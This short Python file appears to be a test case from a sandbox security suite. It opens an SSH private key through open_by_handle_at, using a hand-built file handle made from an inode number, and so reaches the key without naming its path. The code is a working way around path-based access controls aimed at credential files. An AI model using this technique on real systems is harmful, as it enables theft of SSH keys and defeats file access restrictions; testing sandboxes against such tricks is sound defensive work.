"""Opens the ssh key by a handle that is made of its inode's number, without a path."""

import ctypes
import os
import struct

from attack import BAIT, attack, call, told


class Handle(ctypes.Structure):
    """struct file_handle."""

    _fields_ = [("size", ctypes.c_uint), ("kind", ctypes.c_int), ("content", ctypes.c_char * 8)]


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    place = os.open(".", os.O_RDONLY)
    handle = Handle(8, 1)
    inode, generation = BAIT["ssh_key_handle"]
    ctypes.memmove(ctypes.addressof(handle) + 8, struct.pack("<II", inode, generation), 8)
    return told("the ssh key", os.read(call("open_by_handle_at", place, ctypes.byref(handle), os.O_RDONLY), 200))
